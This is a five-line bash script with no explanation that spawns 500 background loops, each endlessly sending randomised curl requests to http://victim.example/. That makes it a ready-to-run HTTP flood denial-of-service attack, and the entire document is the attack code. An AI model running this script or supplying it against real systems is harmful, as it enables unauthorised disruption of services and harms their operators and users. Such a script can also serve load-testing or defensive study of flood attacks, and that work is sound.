for i in $(seq 1 500); do
  ( while true; do curl -s -o /dev/null "http://victim.example/?$RANDOM"; done ) &
done
wait
